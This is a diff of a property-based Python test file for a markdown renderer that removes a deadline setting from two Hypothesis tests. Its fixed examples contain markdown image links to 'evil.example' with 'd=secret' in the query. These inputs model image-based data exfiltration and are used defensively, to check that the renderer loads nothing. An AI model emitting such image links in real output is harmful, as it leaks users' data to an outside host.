@@ -141,7 +141,7 @@ MARKDOWN = st.lists(PIECES, max_size=24).map("".join)
 
 
 @given(MARKDOWN)
-@settings(max_examples=1500, deadline=None)
+@settings(max_examples=1500)
 def test_no_reader_finds_anything_to_load(text: str) -> None:
     assert loaded(render(text)) == []
 
@@ -153,7 +153,7 @@ def test_no_reader_finds_anything_to_load(text: str) -> None:
 @example(f"![{IMAGES[0] * 4}| a | b |\n{IMAGES[0]}| a | b |\n|---|---|\n")
 @example("# ![\n![x](https://evil.example/?d=secret)| a | b |\n|---|---|\n")
 @example("- ```" + "![x](https://evil.example/?d=secret)" * 8 + "![](u)> ```")
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=300)
 def test_a_stream_only_grows_and_can_be_closed_at_any_moment(text: str) -> None:
     shown = ""
     for end in range(len(text) + 1):
